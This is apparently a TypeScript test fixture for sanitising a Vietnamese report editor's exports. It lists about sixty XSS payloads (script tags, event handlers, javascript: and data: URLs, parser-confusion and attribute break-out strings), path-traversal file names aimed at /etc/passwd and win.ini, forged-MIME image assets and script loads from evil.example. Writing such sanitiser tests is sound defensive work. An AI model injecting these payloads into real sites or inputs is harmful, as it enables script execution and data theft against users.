import type { BodyNode } from '@shared/model/body'
import type { Report } from '@shared/model/report'
import {
  block,
  bridgePoints,
  field,
  figure,
  link,
  p,
  pa,
  report,
  t,
  withPhoto,
} from '../../../../fixtures/builders'

/**
 * Known script-injection vectors of the kinds pasted web and Word content brings: tags, event handlers,
 * script URLs in every spelling browsers accept, CSS expressions, parser-confusion tricks (comments,
 * CDATA, foreign content, raw-text end tags), and attribute break-outs. Each calls `xss(n)`, so a
 * browser test can tell which one ran.
 */
export const XSS_VECTORS: readonly string[] = [
  '<script>xss(1)</script>',
  '<img src=x onerror=xss(2)>',
  '<svg onload=xss(3)>',
  '<svg><script>xss(4)</script></svg>',
  '"><script>xss(5)</script>',
  "'><img src=x onerror=xss(6)>",
  'javascript:xss(7)',
  'JaVaScRiPt:xss(8)',
  'java\tscript:xss(9)',
  'java&#x09;script:xss(10)',
  '&#106;avascript:xss(11)',
  '\u0001javascript:xss(12)',
  ' \njavascript:xss(13)',
  'vbscript:msgbox(14)',
  'data:text/html;base64,PHNjcmlwdD54c3MoMTUpPC9zY3JpcHQ+',
  'data:text/html,<script>xss(16)</script>',
  'data:image/svg+xml,<svg onload=xss(17)>',
  'file:///etc/passwd',
  '//evil.example/x.js',
  '<iframe src="javascript:xss(20)"></iframe>',
  '<iframe srcdoc="<script>xss(21)</script>"></iframe>',
  '<object data="javascript:xss(22)"></object>',
  '<embed src="javascript:xss(23)">',
  '<base href="javascript:xss(24)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:xss(25)">',
  '<form action="javascript:xss(26)"><button>gửi</button></form>',
  '<a href="javascript:xss(27)">bấm</a>',
  '<div style="background:url(javascript:xss(28))">',
  "<style>@import 'javascript:xss(29)';</style>",
  '<link rel=stylesheet href=javascript:xss(30)>',
  '<body onload=xss(31)>',
  '<details open ontoggle=xss(32)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss(33)>',
  '<noscript><p title="</noscript><img src=x onerror=xss(34)>">',
  '<!--<img src=x onerror=xss(35)>-->',
  ']]><script>xss(36)</script>',
  '<x onclick=xss(37)>bấm',
  'expression(xss(38))',
  '"onmouseover="xss(39)',
  "' onfocus='xss(40)' autofocus='",
  '<template><script>xss(41)</script></template>',
  '<img srcset="javascript:xss(42)">',
  '<video><source onerror=xss(43)></video>',
  '<frameset onload=xss(44)>',
  '\u2028<script>xss(45)</script>',
  '</style><script>xss(46)</script>',
  '</title><script>xss(47)</script>',
  '</textarea><script>xss(48)</script>',
  '<a href="http://x" onclick="xss(49)">x</a>',
  'https://example.com/" onmouseover="xss(50)',
  'http://example.com/<script>xss(51)</script>',
  '<isindex action=javascript:xss(52) type=image>',
  '<input autofocus onfocus=xss(53)>',
  '<marquee onstart=xss(54)>',
  '<object type="text/x-scriptlet" data="http://evil.example/xss55.sct"></object>',
  '<img src="x` `<script>xss(56)</script>"` `>',
  '<svg><a xlink:href="javascript:xss(57)"><text x="20" y="20">bấm</text></a></svg>',
  '<math href="javascript:xss(58)">bấm</math>',
  '<body background="javascript:xss(59)">',
  '<table background="javascript:xss(60)">',
]

/**
 * A report carrying the vectors everywhere pasted or typed content can reach an export: text, link
 * targets, image bytes and types, alt text, captions, every structured field, node and mark attributes.
 */
export function xssReport(): Report {
  const v = XSS_VECTORS
  const paragraphs: BodyNode[] = v.map((vector, i) =>
    p(
      t(`Văn bản ${i + 1}: `),
      t(vector),
      t(' liên kết', link(vector)),
      t(' thêm', link(`https://a.vn/${vector}`)),
    ),
  )
  const r = report(
    block('themeHeader'),
    block('reportTitle'),
    pa(
      { role: 'lead', textAlign: 'left; background:url(javascript:xss(100))' },
      field('dateLead'),
      t(v[0] ?? ''),
    ),
    bridgePoints(v[1], v[2]),
    ...paragraphs,
    ...v.map((vector, i) => figure(`photo-${i % 3}`, vector, t(`Chú thích ${i + 1}: ${vector}`))),
    figure('forged-mime', 'x', 'forged mime'),
    figure('html-bytes', v[0] ?? '', 'html bytes'),
    figure('quote-data', v[4] ?? '', 'quote data'),
    figure(v[1] ?? '', 'asset id', 'asset id'),
    {
      type: 'heading',
      attrs: { level: '2 onclick=xss(101)', textAlign: 'center" onclick="xss(102)' },
      content: [t('H')],
    },
    {
      type: 'orderedList',
      attrs: { start: '1" onclick="xss(103)', type: 'a" onclick="xss(104)' },
      content: [{ type: 'listItem', content: [p('mục')] }],
    },
    {
      type: 'table',
      content: [
        {
          type: 'tableRow',
          content: [
            {
              type: 'tableHeader',
              attrs: { colspan: '2 onclick=xss(105)', rowspan: 'x' },
              content: [p(t(v[3] ?? ''))],
            },
          ],
        },
      ],
    },
    p({ type: 'field', attrs: { name: v[0] } }, 'field name'),
    p(t('mark attrs', { type: 'bold', attrs: { onclick: 'xss(106)', style: 'x' } })),
    block('byline'),
  )
  r.fields.title = v[46] ?? ''
  r.fields.themeHeader.text = v[45] ?? ''
  r.fields.presidingBody = v[4] ?? ''
  r.fields.attendees = v[5] ?? ''
  r.fields.photoCredit = v[6] ?? ''
  r.fields.chair = { name: v[0] ?? '', titles: [v[1] ?? '', v[2] ?? ''], separator: 'comma' }
  r.fields.byline = { prefix: v[33] ?? '', author: v[34] ?? '', unit: v[35] ?? '' }
  r.fields.bridgePoints = v.slice(0, 10).map((vector, i) => ({
    id: `bp${i}`,
    place: vector,
    chair: i % 2 ? null : { name: vector, titles: [vector], separator: 'endash' as const },
    note: vector,
  }))
  withPhoto(r, 'photo-0', v[2] ?? '')
  withPhoto(r, 'photo-1', '../../../etc/passwd.png', 2)
  withPhoto(r, 'photo-2', 'C:\\Windows\\win.ini.png', 3)
  // Bytes that are an HTML page, an SVG with a script, and a type the model does not allow.
  r.assets['html-bytes'] = {
    mime: 'image/png',
    data: Buffer.from('<script>xss(107)</script>').toString('base64'),
    name: 'a.png',
  }
  r.assets['forged-mime'] = {
    ...(r.assets['photo-1'] as Report['assets'][string]),
    mime: 'text/html' as Report['assets'][string]['mime'],
  }
  r.assets['quote-data'] = { mime: 'image/png', data: `iVBORw0KGgo" onerror="xss(108)`, name: 'b.png' }
  r.assets[v[1] ?? ''] = {
    ...(r.assets['photo-1'] as Report['assets'][string]),
    mime: 'image/svg+xml' as Report['assets'][string]['mime'],
  }
  return r
}
